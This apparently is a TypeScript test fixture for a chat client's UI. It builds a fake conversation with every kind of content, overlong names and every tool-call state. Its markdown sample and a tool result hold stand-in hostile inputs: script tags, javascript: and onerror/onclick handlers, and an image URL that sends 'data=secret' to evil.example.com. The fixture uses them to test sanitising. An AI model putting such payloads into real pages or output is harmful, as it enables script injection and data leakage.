import { createFakeBridge } from '../../fakeBridge.ts';
import {
  conversation,
  manyStates,
  now,
  oldConversations,
  settings,
  summary,
  text,
  tool,
  user,
} from '../madeUp.ts';

const long = 'a_very_long_tool_name_that_nobody_would_choose_but_somebody_did_anyway';
const all = summary(
  'all',
  'Everything that an answer can hold, and a title that is too long for its place',
);

const markdown = `# A heading

Some **bold**, *italic*, ~~struck~~ and \`inline code\`, a [web link](https://example.com/a?b=c), a [script link](javascript:alert(1)), a [mail link](mailto:a@example.com) and https://auto.example.com.

## Lists

1. First, with a paragraph
   - nested one
   - nested two with \`code\`
2. Second

   \`\`\`sh
   npm install

   npm start
   \`\`\`
3. Third

- [x] done
- [ ] open

> A quote of two lines
> that goes on.

| Server | State | Calls |
| :-- | :-: | --: |
| docs | connected | 18 |
| wiki with a long name | backoff | 1,041 |

\`\`\`ts
/** Adds two numbers. */
export function add(a: number, b = 2): number {
  const text = \`\${a} and "\${b}"\`; // a comment
  return text.length > 3 ? a + b : NaN;
}
\`\`\`

\`\`\`json
{ "name": "docs", "args": ["-y", "@example/docs"], "disabled": false, "timeout": 30000 }
\`\`\`

![a chart](https://evil.example.com/pixel.png?data=secret) and <img src="https://evil.example.com/2.png" onerror="alert(1)"> and <script>alert(1)</script><b style="color:red" onclick="alert(2)">bold html</b>

---

The end, with a footnote-free sentence.`;

const png =
  'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FAAhKDveksOjmAAAAAElFTkSuQmCC';

/** Every kind of content, names too long for their places, and every state of a call. */
export const bridge = () =>
  createFakeBridge({
    'servers.list': () => manyStates,
    'chat.list': () => [all, ...oldConversations],
    'settings.get': () =>
      settings({
        model: { value: 'a-model-with-quite-a-long-name-2027-01-31-preview', source: 'settings' },
      }),
    'links.open': () => Promise.reject(new Error('no browser here')),
    'chat.open': () =>
      conversation(all, [
        user('u1', `Show me everything.\nOn two lines, with a_very_long_word_${'x'.repeat(120)}`),
        text('t1', markdown),
        tool('c1', {
          name: `mcp__${long}__${long}`,
          title: `Search everywhere for ${long}`,
          server: `server-${long}`,
          input: { query: 'q'.repeat(300), nested: { list: [1, 2, { deep: true }] } },
          outcome: { code: 'tools-found', count: 1204 },
          startedAt: now - 93_000,
          result: [
            { kind: 'text', text: 'Plain words.\n<script>alert(1)</script>\n'.repeat(3) },
            {
              kind: 'text',
              text: JSON.stringify({
                token: 'hidden, 40 characters',
                list: [1, null, true, 'x'],
                empty: {},
              }),
            },
            { kind: 'image', mediaType: 'image/png', data: png },
            {
              kind: 'link',
              uri: 'file:///srv/docs/retries.md',
              name: 'retries.md',
              description: 'How retries work',
              mediaType: 'text/markdown',
            },
            {
              kind: 'file',
              path: '/home/ada/.config/Patchbay/results/8f3.pdf',
              mediaType: 'application/pdf',
              bytes: 1_240_000,
              note: 'Too long for the model, kept on disk',
            },
          ],
          logSeq: 3,
        }),
        tool('c2', {
          title: 'Read',
          server: 'docs',
          state: 'error',
          result: [{ kind: 'text', text: 'The server ended with exit code 1.' }],
          logSeq: 4,
        }),
        tool('c3', {
          title: 'Trigger',
          server: 'deploy',
          state: 'denied',
          input: { service: 'web' },
        }),
        tool('c4', { title: 'Search', server: 'docs', state: 'stopped', input: { query: 'x' } }),
        tool('c5', { title: 'Search', server: 'docs', state: 'queued', input: { query: 'y' } }),
        {
          kind: 'notice',
          id: 'n1',
          at: now,
          level: 'warn',
          notice: { code: 'x/retrying', message: 'The API is overloaded (529). Next try in 4 s.' },
        },
        {
          kind: 'notice',
          id: 'n2',
          at: now,
          level: 'info',
          notice: { code: 'x/stopped', message: 'You stopped the answer.' },
        },
        {
          kind: 'notice',
          id: 'n3',
          at: now,
          level: 'error',
          notice: {
            code: 'x/bad-key',
            message: 'The API did not accept the key (401).',
            action: 'add-key',
          },
        },
        {
          kind: 'notice',
          id: 'n4',
          at: now,
          level: 'error',
          notice: {
            code: 'x/unreachable',
            message: 'api.anthropic.com cannot be reached.',
            action: 'retry',
          },
        },
      ]),
  });
